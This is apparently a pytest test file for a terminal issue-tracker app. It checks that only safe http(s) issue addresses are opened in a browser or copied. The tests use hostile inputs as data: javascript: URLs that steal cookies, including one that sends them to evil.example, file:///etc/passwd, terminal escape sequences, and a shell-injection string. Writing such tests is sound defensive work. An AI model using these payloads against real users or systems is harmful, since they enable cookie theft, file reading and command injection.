"""``O`` opens the selected issue's page, ``y`` copies its address: safe addresses only, and
something useful over SSH (no display) and on the local tracker (no web page)."""

from __future__ import annotations

import os
import subprocess
import sys
import webbrowser
from pathlib import Path

import pytest

from dslp_tui import links
from dslp_tui.app import build_app
from dslp_tui.links import copy_text, graphical_session, open_browser, web_url
from dslp_tui.model import Issue
from dslp_tui.sources import github as github_source

from board_driver import move_to, settle
from github_emulator import GitHubEmulator, emulator_fixture

github = emulator_fixture()
SIZE = (120, 40)


def run(cwd: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True)


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/acme/churn/issues/5",
        "http://ghe.example.com/acme/churn/issues/5",
        "HTTPS://github.com/acme/churn/issues/5",
    ],
)
def test_web_addresses_are_accepted(url: str) -> None:
    assert web_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "",
        "javascript:alert(document.cookie)//issues/1",
        "file:///etc/passwd",
        "data:text/html,<script>alert(1)</script>",
        "https:///issues/1",  # no host
        "https://github.com/a b",  # a space: not one address
        pytest.param("https://github.com/\x1b]52;c;evil\x07", id="escape"),
        "https://github.com/\nfile:///etc/passwd",
        "-https://github.com/x",
        pytest.param("https://github.com/" + "a" * 3000, id="too-long"),
        "https://[::1/issues/1",  # urlsplit refuses it
    ],
)
def test_hostile_addresses_are_refused(url: str) -> None:
    assert web_url(url) is None


def test_copy_text_is_the_address_or_the_number() -> None:
    assert copy_text(Issue(5, "t", None, url="https://github.com/a/b/issues/5")) == "https://github.com/a/b/issues/5"
    assert copy_text(Issue(5, "t", None)) == "#5"
    assert copy_text(Issue(5, "t", None, url="javascript:alert(1)")) == "#5"


def test_graphical_session() -> None:
    assert graphical_session({}, "darwin") and graphical_session({}, "win32")
    assert graphical_session({"DISPLAY": ":0"}, "linux") and graphical_session({"WAYLAND_DISPLAY": "w"}, "linux")
    assert not graphical_session({"SSH_CONNECTION": "1 2 3 4"}, "linux")


class Browser:
    """links.open_browser as a test sees it: what it was asked to open, and its answer."""

    def __init__(self, answer: bool) -> None:
        self.answer = answer
        self.opened: list[str] = []

    def __call__(self, url: str, *args, **kwargs) -> bool:
        self.opened.append(url)
        return self.answer


def messages(app) -> str:
    return "\n".join(n.message for n in app._notifications)


@pytest.fixture
def browser(monkeypatch: pytest.MonkeyPatch) -> Browser:
    fake = Browser(True)
    monkeypatch.setattr(links, "open_browser", fake)
    monkeypatch.setenv("DISPLAY", ":0")
    return fake


async def test_local_tracker_has_no_page_and_copies_the_number(demo: Path, browser: Browser) -> None:
    app = build_app(demo)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        move_to(app, "issue-5")
        await pilot.press("O")
        await settle(pilot)
        assert browser.opened == []
        assert "#5: the local tracker has no web page" in messages(app)
        await pilot.press("y")
        assert app.clipboard == "#5"
        assert "Copied #5" in messages(app)


@pytest.fixture
def project(tmp_path: Path, github: GitHubEmulator, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setitem(github_source.CLIENT_OPTIONS, "seconds_between_writes", None)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("GH_ENTERPRISE_TOKEN", github.token)
    monkeypatch.setenv("GH_HOST", "127.0.0.1")  # the person chose the emulator's host
    work = tmp_path / "churn-model"
    run(tmp_path, "init", "-q", "-b", "main", str(work))
    (work / "dslp.toml").write_text(
        f'[tracker]\nkind = "github"\nrepo = "acme/churn-model"\nbase_url = "{github.base_url}"\n'
    )
    ask = github.add_issue("Reduce customer churn", labels=["Ask"])["number"]
    github.add_issue("Gradient boosting", body="Ask Reference: #1", labels=["Experiment"], parent=ask)
    return work


PAGE = "https://github.com/acme/churn-model/issues/2"


async def test_open_and_copy_on_github(project: Path, browser: Browser) -> None:
    app = build_app(project)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        move_to(app, "issue-2")
        await pilot.press("O")
        await settle(pilot)
        assert browser.opened == [PAGE]
        assert app.clipboard == ""  # opened: nothing copied
        await pilot.press("y")
        assert app.clipboard == PAGE
        assert f"Copied {PAGE}" in messages(app)


async def test_no_display_copies_instead(project: Path, browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DISPLAY")
    monkeypatch.delenv("WAYLAND_DISPLAY", raising=False)
    monkeypatch.setattr("sys.platform", "linux")
    app = build_app(project)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        move_to(app, "issue-2")
        await pilot.press("O")
        await settle(pilot)
        assert browser.opened == []  # no terminal browser taking over the board
        assert app.clipboard == PAGE
        assert "No browser here" in messages(app)


async def test_a_browser_that_fails_copies_instead(project: Path, browser: Browser) -> None:
    browser.answer = False
    app = build_app(project)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        move_to(app, "issue-2")
        await pilot.press("O")
        await settle(pilot)
        assert browser.opened == [PAGE]
        assert app.clipboard == PAGE
        assert "No browser could be started" in messages(app)


async def test_a_hostile_address_is_never_opened_or_copied(
    project: Path, github: GitHubEmulator, browser: Browser
) -> None:
    github._html = "javascript:fetch('//evil.example/'+document.cookie)//"
    app = build_app(project)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        move_to(app, "issue-2")
        await pilot.press("O")
        await settle(pilot)
        assert browser.opened == []
        assert "not an http(s) address" in messages(app)
        await pilot.press("y")
        assert app.clipboard == "#2"


NOISE = ("BROWSER-SAYS-ON-STDOUT", "BROWSER-SAYS-ON-STDERR")


@pytest.fixture
def real_browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A browser command in $BROWSER that prints on both streams and records its argv, its
    standard input and its session; returns the record's path."""
    record = tmp_path / "browser-record.json"
    script = tmp_path / "fake-browser"
    script.write_text(
        f"#!{sys.executable}\n"
        "import json, os, sys\n"
        f"print({NOISE[0]!r}, flush=True)\n"
        f"print({NOISE[1]!r}, file=sys.stderr, flush=True)\n"
        "null = os.stat(os.devnull)\n"
        "stdin = os.fstat(0)\n"
        f"with open({str(record)!r}, 'w') as out:\n"
        "    json.dump({'argv': sys.argv[1:], 'sid': os.getsid(0),"
        " 'stdin_null': (stdin.st_rdev, stdin.st_ino) == (null.st_rdev, null.st_ino)}, out)\n"
    )
    script.chmod(0o755)
    monkeypatch.setenv("BROWSER", str(script))
    monkeypatch.setenv("DISPLAY", ":0")
    monkeypatch.setattr(webbrowser, "_tryorder", None)  # an in-process webbrowser reads $BROWSER afresh
    return record


def read_record(record: Path) -> dict:
    import json

    return json.loads(record.read_text())


# Shell syntax in an address: a shell would split it, run $(...) or stop at ";".
TRICKY = "https://example.com/a;touch$IFS/tmp/pwned?q=$(id)&x='1'|cat"


def test_the_browser_gets_the_address_as_one_argument_and_no_terminal(
    real_browser: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    assert open_browser(TRICKY)
    seen = read_record(real_browser)
    assert seen["argv"] == [TRICKY]
    assert seen["stdin_null"]
    assert seen["sid"] != os.getsid(0)  # a session of its own: no controlling terminal to take over
    out, err = capfd.readouterr()
    assert not any(noise in out + err for noise in NOISE), (out, err)


def test_open_browser_refuses_what_web_url_refuses(real_browser: Path) -> None:
    assert not open_browser("file:///etc/passwd")
    assert not real_browser.exists()


async def test_o_keeps_the_browsers_output_off_the_board(
    project: Path, real_browser: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    app = build_app(project)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        move_to(app, "issue-2")
        await pilot.press("O")
        await settle(pilot)
        assert f"Opened {PAGE}" in messages(app)
    assert read_record(real_browser)["argv"] == [PAGE]
    out, err = capfd.readouterr()
    assert not any(noise in out + err for noise in NOISE), (out, err)
